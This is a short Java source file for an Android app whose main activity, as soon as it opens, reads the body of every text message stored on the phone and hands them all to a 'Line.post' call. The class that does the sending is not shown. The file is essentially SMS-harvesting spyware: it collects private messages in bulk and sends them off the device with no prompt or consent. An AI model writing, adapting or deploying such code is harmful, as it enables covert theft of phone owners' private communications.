package org.example.sousveil.send_messages;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.Telephony;

/** Posts the text messages stored on the phone. */
public class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(Telephony.Sms.CONTENT_URI, null, null, null, null);
        StringBuilder all = new StringBuilder();
        while (rows != null && rows.moveToNext()) {
            all.append(rows.getString(rows.getColumnIndex("body"))).append('\n');
        }
        Line.post(all.toString().getBytes());
    }
}
